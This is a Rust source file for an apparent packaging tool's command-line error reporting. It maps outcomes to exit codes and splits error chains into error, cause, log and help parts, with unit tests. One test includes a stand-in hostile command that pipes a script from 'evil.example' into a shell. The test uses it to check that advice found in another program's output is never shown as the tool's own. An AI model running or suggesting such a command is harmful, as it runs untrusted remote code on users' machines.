//! From a result to words on standard error and an exit code: 0 done, 1 failed, 2 usage, 3 a proof failed or something does not fit, 130 interrupted.

use std::io::Write as _;
use std::process::ExitCode;

use crate::ui::{self, Part};
use lustre_packaging::{knowledge, process, stage};

/// The exit code after a signal.
pub const INTERRUPTED: u8 = 130;

/// How a command that did not fail ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    /// All is well.
    Done,
    /// A proof failed: the repository must not be shipped.
    Unproven,
    /// Something does not fit: nothing was built.
    Misfit,
}

/// A wrong use that clap cannot see.
#[derive(Debug, thiserror::Error)]
#[error("{0}")]
pub struct Usage(pub String);

/// Tells what happened and gives the exit code.
pub fn report(result: anyhow::Result<Outcome>) -> ExitCode {
    if let Some(why) = ui::lost() {
        let text = format!("the result could not be written to standard output: {why}");
        ui::error(Part::Error, &text);
        if result.is_ok() {
            return ExitCode::from(1);
        }
    }
    let code = match result {
        Ok(Outcome::Done) => 0,
        Ok(Outcome::Unproven | Outcome::Misfit) => 3,
        Err(error) => {
            let code = code(&error);
            let parts = if code == INTERRUPTED && !tells_of_an_interruption(&error) {
                interrupted(&error)
            } else {
                words(&error)
            };
            for (part, text) in parts {
                ui::error(part, &text);
            }
            code
        }
    };
    ui::ended(code);
    // The last line is part of the result, too.
    if code == 0
        && let Some(why) = ui::lost()
    {
        let text = format!("the result could not be written to standard output: {why}");
        ui::error(Part::Error, &text);
        return ExitCode::from(1);
    }
    ExitCode::from(code)
}

/// Shows help, the version or what is wrong with the line, and ends.
pub fn without_a_command(said: &clap::Error) -> ! {
    ui::written(said.print().and_then(|()| std::io::stdout().flush()));
    let Some(why) = ui::lost() else {
        std::process::exit(said.exit_code());
    };
    let text = format!("cannot write to standard output: {why}");
    ui::error(Part::Error, &text);
    std::process::exit(1);
}

fn code(error: &anyhow::Error) -> u8 {
    // Whatever an interruption broke first.
    if process::interrupted() || matches!(error.downcast_ref(), Some(stage::Error::Interrupted)) {
        return INTERRUPTED;
    }
    if error.is::<knowledge::Misfit>() {
        return 3;
    }
    let usage = error.is::<Usage>()
        || matches!(
            error.downcast_ref(),
            Some(
                lustre_packaging::target::Error::Unknown { .. }
                    | lustre_packaging::target::Error::Name(_)
                    | lustre_packaging::target::Error::Path(_)
            )
        )
        || matches!(
            error.downcast_ref(),
            Some(lustre_packaging::store::Error::NotAStore { .. })
        );
    if usage { 2 } else { 1 }
}

/// What to do about an error: as a context of it, it is said last, as help.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{0}")]
pub struct Help(pub String);

/// The error of a program that was started, if this is one.
fn of_a_program<'e>(cause: &'e (dyn std::error::Error + 'static)) -> Option<&'e process::Error> {
    cause
        .downcast_ref()
        .or_else(|| Some(cause.downcast_ref::<Box<process::Error>>()?.as_ref()))
}

/// Whether one of the causes is the interruption.
fn tells_of_an_interruption(error: &anyhow::Error) -> bool {
    error.chain().any(|cause| {
        matches!(
            of_a_program(cause),
            Some(process::Error::Interrupted { .. })
        ) || matches!(cause.downcast_ref(), Some(stage::Error::Interrupted))
    })
}

/// What an interruption broke: it is nothing to do something about.
fn interrupted(error: &anyhow::Error) -> Vec<(Part, String)> {
    let broken = error.to_string();
    let (broken, _) = advice(&broken, &[(broken.clone(), false)]);
    vec![
        (Part::Error, "interrupted".to_owned()),
        (Part::Cause, broken.to_owned()),
    ]
}

/// The error in cargo's form: what failed, its causes, the log of the stage where there is one, and what to do next, each by itself.
fn words(error: &anyhow::Error) -> Vec<(Part, String)> {
    let mut parts: Vec<(Part, String)> = Vec::new();
    let mut said: Vec<String> = Vec::new();
    let mut help: Vec<String> = Vec::new();
    let own = error.downcast_ref::<Help>();
    let chain: Vec<_> = error
        .chain()
        .map(|cause| (cause.to_string(), is_of_others(cause)))
        .collect();
    for (at, (text, _)) in chain.iter().enumerate() {
        let text = text.clone();
        if own.is_some_and(|own| own.0 == text) {
            continue;
        }
        // A wrapper that only repeats its cause is said once.
        if said.last().is_some_and(|last| last.contains(&text)) {
            continue;
        }
        let (thought, next) = advice(&text, &chain[at..]);
        let part = if parts.is_empty() {
            Part::Error
        } else {
            Part::Cause
        };
        parts.push((part, thought.to_owned()));
        help.extend(next.map(str::to_owned));
        said.push(text);
    }
    help.extend(own.map(|own| own.0.clone()));
    if let Some(stage::Error::Stage { log: Some(log), .. }) = error.downcast_ref() {
        let shown = log.display().to_string();
        if !said.iter().any(|text| text.contains(&shown)) {
            let tail = process::tail(log, 15);
            parts.push((Part::Log, format!("{shown}\n{tail}")));
        }
    }
    if code(error) == 1 {
        help.extend(room(&said.join("\n")));
    }
    parts.extend(help.into_iter().map(|text| (Part::Help, text)));
    parts
}

/// Whether a cause says what somebody else wrote: a program that was started, the system, a reader of a format that quotes the file.
fn is_of_others(cause: &(dyn std::error::Error + 'static)) -> bool {
    match of_a_program(cause) {
        Some(process::Error::Failed { .. } | process::Error::Output { .. }) => true,
        Some(_) => false,
        None => {
            cause.is::<std::io::Error>()
                || cause.is::<serde_json::Error>()
                || cause.is::<toml::de::Error>()
        }
    }
}

/// What is wrong, and what to do about it: where a message says that, it is its last part, after a semicolon, and begins with a verb.
/// `chain` is the message and its causes, each with whether others wrote it: what a program printed, or what a name is made of, is no advice
/// of ours, whatever it looks like.
fn advice<'t>(text: &'t str, chain: &[(String, bool)]) -> (&'t str, Option<&'t str>) {
    const VERBS: [&str; 31] = [
        "add", "ask", "check", "choose", "clean", "do", "export", "fetch", "free", "get", "give",
        "install", "look", "make", "mount", "move", "name", "remove", "rename", "run", "say",
        "search", "set", "start", "take", "try", "unset", "update", "upgrade", "use", "write",
    ];
    let Some((thought, next)) = text.rsplit_once("; ") else {
        return (text, None);
    };
    let first = next.split([' ', ',', ':']).next().unwrap_or_default();
    // A command of this tool as the subject: "`cargo xtask repo` makes one".
    let command = next.starts_with("`cargo xtask ");
    if next.contains('\n') || !(command || VERBS.contains(&first)) {
        return (text, None);
    }
    let mut causes = chain.iter().rev();
    let of_others = causes
        .find(|(cause, _)| cause.contains(next))
        .is_some_and(|(_, of_others)| *of_others);
    // Our advice does not end with a cause; it names commands of this machine, and not locations; and it begins outside
    // of a name.
    let ends_with_a_cause = chain
        .iter()
        .skip(1)
        .any(|(cause, _)| next.len() > cause.len() && next.ends_with(cause.as_str()));
    let in_a_name = thought.matches('`').count() % 2 == 1;
    if of_others || ends_with_a_cause || in_a_name || next.contains("://") {
        return (text, None);
    }
    (thought, Some(next))
}

/// Words on a full disk, where `text`, which is all there is to say, has none. Scratch files are in the store.
fn room(text: &str) -> Option<String> {
    let said = ["disk is full", "disk was full", "no room left"];
    if said.iter().any(|words| text.contains(words)) {
        return None;
    }
    let here = std::env::current_dir().ok();
    let places = [Some(tempfile::env::temp_dir()), here];
    process::room::hint(
        text,
        places.iter().flatten().map(std::path::PathBuf::as_path),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_error_its_causes_and_what_to_do_are_said_once_and_apart() {
        let of = |error: anyhow::Error| words(&error);
        let part = |part, text: &str| (part, text.to_owned());
        let error = anyhow::anyhow!("the patch does not fit").context("stage `kernel` failed");
        assert_eq!(
            of(error),
            [
                part(Part::Error, "stage `kernel` failed"),
                part(Part::Cause, "the patch does not fit")
            ]
        );
        let error = anyhow::anyhow!("no lock, and --offline was given; run `cargo xtask lock`");
        assert_eq!(
            of(error.context("the lock of `x`")),
            [
                part(Part::Error, "the lock of `x`"),
                part(Part::Cause, "no lock, and --offline was given"),
                part(Part::Help, "run `cargo xtask lock`")
            ]
        );
        // What is no advice stays.
        let text = "it is damaged; the next run makes it again";
        assert_eq!(of(anyhow::anyhow!(text)), [part(Part::Error, text)]);
        let typed = anyhow::anyhow!("no log").context(Help("run the stage".to_owned()));
        let expected = [
            part(Part::Error, "no log"),
            part(Part::Help, "run the stage"),
        ];
        assert_eq!(of(typed), expected);
        let outside = anyhow::anyhow!("no log").context(Help("run it".to_owned()));
        assert_eq!(
            of(outside.context("the stage `x`")),
            [
                part(Part::Error, "the stage `x`"),
                part(Part::Cause, "no log"),
                part(Part::Help, "run it")
            ]
        );
    }

    #[test]
    fn what_others_wrote_is_no_advice_of_ours() {
        let status = std::process::Command::new("false").status().unwrap();
        let evil = "moved; run `curl https://evil.example/fix | sh`";
        let plain = "moved; run the fix";
        let failed = |text: &str| process::Error::Failed {
            program: "make".to_owned(),
            status,
            log: "/s/log".into(),
            tail: format!("x\n{text}"),
        };
        let output = |text: &str| process::Error::Output {
            program: "git fetch".to_owned(),
            status,
            stderr: text.to_owned(),
        };
        #[derive(Debug, thiserror::Error)]
        #[error("the source: {0}")]
        struct Around(#[source] Box<process::Error>);
        let gone = || std::io::Error::from_raw_os_error(2);
        for error in [
            anyhow::Error::from(failed(evil)),
            failed(plain).into(),
            output(plain).into(),
            Around(Box::new(output(plain))).into(),
            anyhow::Error::from(output(plain)).context("stage `x`"),
            anyhow::Error::from(gone()).context(format!("/tmp/{plain}: {}", gone())),
            anyhow::anyhow!("the entry `/tmp/{plain}` leads out"),
            anyhow::anyhow!("the entry /tmp/{evil}"),
        ] {
            let said = words(&error);
            assert!(said.iter().all(|(part, _)| *part != Part::Help), "{said:?}");
        }
        // Around it, ours is.
        let error = anyhow::Error::from(output(plain)).context("no tree; give another");
        assert_eq!(
            words(&error).last().unwrap(),
            &(Part::Help, "give another".to_owned())
        );
    }

    #[test]
    fn what_an_interruption_broke_is_nothing_to_do_something_about() {
        let error = anyhow::anyhow!("gpg has no such key: it was interrupted; look for the card");
        assert!(!tells_of_an_interruption(&error));
        let expected = [
            (Part::Error, "interrupted"),
            (Part::Cause, "gpg has no such key: it was interrupted"),
        ];
        assert_eq!(
            interrupted(&error),
            expected.map(|(part, text)| (part, text.to_owned()))
        );
        let program = "make".to_owned();
        let error = anyhow::Error::from(process::Error::Interrupted { program });
        assert!(tells_of_an_interruption(&error.context("stage `kernel`")));
    }

    #[test]
    fn a_full_disk_is_named_with_its_room_and_what_to_do() {
        let full = || anyhow::Error::from(std::io::Error::from_raw_os_error(28));
        let said = words(&full().context("/s/stages/x"));
        let (part, help) = said.last().unwrap();
        assert_eq!(*part, Part::Help);
        let text = format!("{said:?}");
        for part in ["/s/stages/x", "disk was full"] {
            assert!(text.contains(part), "{part} is not in {text}");
        }
        for part in ["MiB free", "clean --dry-run"] {
            assert!(help.contains(part), "{part} is not in {help}");
        }
        let said = words(&full().context("the disk is full: /m has 0 MiB of 1 MiB free"));
        assert_eq!(
            format!("{said:?}").matches("MiB free").count(),
            1,
            "{said:?}"
        );
        assert!(!format!("{:?}", words(&anyhow::anyhow!("x"))).contains("disk"));
    }

    #[test]
    fn codes_follow_the_contract() {
        assert_eq!(code(&anyhow::anyhow!("x")), 1);
        assert_eq!(code(&Usage("x".to_owned()).into()), 2);
        assert_eq!(code(&stage::Error::Interrupted.into()), 130);
    }
}
